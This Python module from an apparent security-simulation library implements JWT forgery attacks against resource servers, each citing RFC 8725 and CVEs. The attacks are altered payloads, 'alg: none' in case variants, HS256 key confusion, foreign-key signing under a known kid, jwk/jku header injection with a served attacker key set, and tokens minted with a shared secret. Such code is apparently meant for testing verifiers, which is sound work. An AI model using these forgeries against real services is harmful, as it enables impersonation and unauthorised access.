"""Token forgery: tokens of the attacker's making, for resource servers that verify signatures wrongly."""

import json
from collections.abc import Mapping
from dataclasses import replace
from typing import Any, ClassVar

from simlib.attacks.base import JWKS_URI, Candidate, Handler, NotApplicable, Preparation, TokenAttack
from simlib.attacks.forged_claims import ForgedClaims, forge_claims, is_key_pair_algorithm
from simlib.scenario.effects import Context, Flow, Reply
from simlib.scenario.messages import HttpRequest
from simlib.tokens import SigningKey, generate_signing_key, read_header
from simlib.tokens.forging import (
    alter,
    count_alterations,
    encode_public_pem,
    forge_unsigned,
    replace_claims,
    sign_claims,
    sign_with_hmac,
)

OWN_KID = "attacker"
SPELLINGS = ("none", "None", "nOnE")
PLACES = 5
"""Number of bytes, spread over the contents of the token, that are changed one at a time."""


class AlteredPayload(TokenAttack):
    """Payload changed under the old signature: the subject, where it is readable, and then single bits."""

    name: ClassVar[str] = "altered_payload"
    summary: ClassVar[str] = "own token with another subject or a changed bit, and the old signature"
    source: ClassVar[str] = "RFC 8725 sections 2.1 and 3.3; CVE-2022-21449, CVE-2022-39227"

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Change the attacker's own token."""
        yield from ()
        token = self.assets.own_token
        candidates = []
        if read_header(token) and token.count(".") == 2:
            candidates.append(Candidate("another subject", replace_claims(token, sub=self.assets.victim)))
        places = (number * count_alterations(token) // PLACES for number in range(PLACES))
        return (*candidates, *(Candidate(f"bit at {place}", alter(token, place)) for place in places))


class UnsignedToken(TokenAttack):
    """No signature, as the header declares (``alg: none``), also in spellings that case-sensitive filters miss."""

    name: ClassVar[str] = "unsigned_token"
    summary: ClassVar[str] = "forged claims with alg none and no signature"
    source: ClassVar[str] = "RFC 8725 sections 2.1 and 3.2; CVE-2015-9235, CVE-2022-23540"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Rewrite the claims."""
        forged = yield from forge_claims(ctx, self.assets)
        if isinstance(forged, NotApplicable):
            return forged
        return tuple(
            Candidate(f"alg {word}", forged.seal(forge_unsigned(forged.claims, forged.kid, word, forged.typ)))
            for word in SPELLINGS
        )


class KeyConfusion(TokenAttack):
    """HS256 with the server's public key as secret, accepted by a verifier that uses keys of the key set as secrets."""

    name: ClassVar[str] = "key_confusion"
    summary: ClassVar[str] = "forged claims signed by HS256 with the server's public key"
    source: ClassVar[str] = "RFC 8725 sections 2.1 and 3.1; CVE-2016-10555, CVE-2022-29217"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Fetch the key set and sign with its key, in several encodings."""
        forged = yield from forge_claims(ctx, self.assets)
        if isinstance(forged, NotApplicable):
            return forged
        if forged.jwk is None:
            return NotApplicable("the key set has no public key")
        pem = encode_public_pem(forged.jwk)
        texts = {"PEM": pem, "PEM without its last line break": pem.rstrip(), "JWK": json.dumps(forged.jwk).encode()}
        return tuple(
            Candidate(f"secret: {name}", forged.seal(sign_with_hmac(forged.claims, forged.kid, text, forged.typ)))
            for name, text in texts.items()
        )


def sign_with_foreign_key(ctx: Context, forged: ForgedClaims, **header: object) -> str:
    """Sign claims under the known ``kid`` with another key of the same algorithm."""
    if not is_key_pair_algorithm(forged.algorithm):
        return forged.seal(sign_with_hmac(forged.claims, forged.kid, ctx.random_bytes("foreign_key", 32), forged.typ))
    key = replace(generate_signing_key(forged.algorithm, "attacker"), kid=forged.kid)
    return forged.seal(sign_claims(forged.claims, key, typ=forged.typ, **header))


class ForeignKey(TokenAttack):
    """Signature by the attacker's own key under the server's ``kid``.

    Succeeds where the ``kid`` is accepted as proof of the key.
    """

    name: ClassVar[str] = "foreign_key"
    summary: ClassVar[str] = "forged claims signed with another key under the kid of the server's"
    source: ClassVar[str] = "RFC 7515 section 4.1.4, RFC 8725 section 3.3; CVE-2026-49998"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Rewrite the claims and sign them."""
        forged = yield from forge_claims(ctx, self.assets)
        if isinstance(forged, NotApplicable):
            return forged
        return (Candidate("known kid, foreign signature", sign_with_foreign_key(ctx, forged)),)


class HeaderInjection(TokenAttack):
    """Verification key in the header (``jwk``) or its address (``jku``), each under the known ``kid`` and a new one."""

    name: ClassVar[str] = "header_injection"
    summary: ClassVar[str] = "forged claims, signed with a key that the header itself contains (jwk) or links to (jku)"
    source: ClassVar[str] = "RFC 8725 sections 2.9 and 3.10; CVE-2018-0114, CVE-2025-24976"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Rewrite the claims and sign them; `list_endpoints` serves the key set."""
        forged = yield from forge_claims(ctx, self.assets)
        if isinstance(forged, NotApplicable):
            return forged
        own = _generate_key(forged.algorithm if is_key_pair_algorithm(forged.algorithm) else "RS256")
        headers: dict[str, dict[str, Any]] = {"jwk": {"jwk": _remove_kid(own)}, "jku": {"jku": JWKS_URI}}
        return tuple(
            Candidate(
                f"{name}, kid {kid}",
                forged.seal(sign_claims(forged.claims, replace(own, kid=kid), typ=forged.typ, **more)),
            )
            for name, more in headers.items()
            for kid in (OWN_KID, forged.kid)
        )

    def list_endpoints(self) -> Mapping[str, Handler]:
        """Return the endpoint of the attacker's key set."""
        return {JWKS_URI: _serve_keys}


def _generate_key(algorithm: str) -> SigningKey:
    return generate_signing_key(algorithm, OWN_KID)


def _remove_kid(key: SigningKey) -> dict[str, str]:
    return {name: value for name, value in key.verification_key.jwk.items() if name != "kid"}


def _serve_keys(request: HttpRequest) -> Flow[Reply]:
    yield from ()
    keys = [dict(_generate_key(algorithm).verification_key.jwk) for algorithm in ("RS256", "ES256", "EdDSA")]
    return Reply(200, json.dumps({"keys": keys[:1]}).encode())


class MintedByResourceServer(TokenAttack):
    """Signature by a resource server with its verification key.

    An HS256 secret that verifies can also sign; a public key cannot.
    """

    name: ClassVar[str] = "minted_by_resource_server"
    summary: ClassVar[str] = "a token for another API's users, made by a resource server with its verification key"
    source: ClassVar[str] = "RFC 7515 section 10.5, RFC 7518 section 3.2"
    needs: ClassVar[tuple[str, ...]] = ("shared_secret", "encryption_jwk")

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Rewrite the claims, and sign them with the shared secret or a key of its own."""
        forged = yield from forge_claims(ctx, self.assets)
        if isinstance(forged, NotApplicable):
            return forged
        secret = self.assets.shared_secret
        if secret:
            minted = forged.seal(sign_with_hmac(forged.claims, forged.kid, secret, forged.typ))
            return (Candidate("signed with the shared secret", minted),)
        return (Candidate("signed with a key of its own", sign_with_foreign_key(ctx, forged)),)
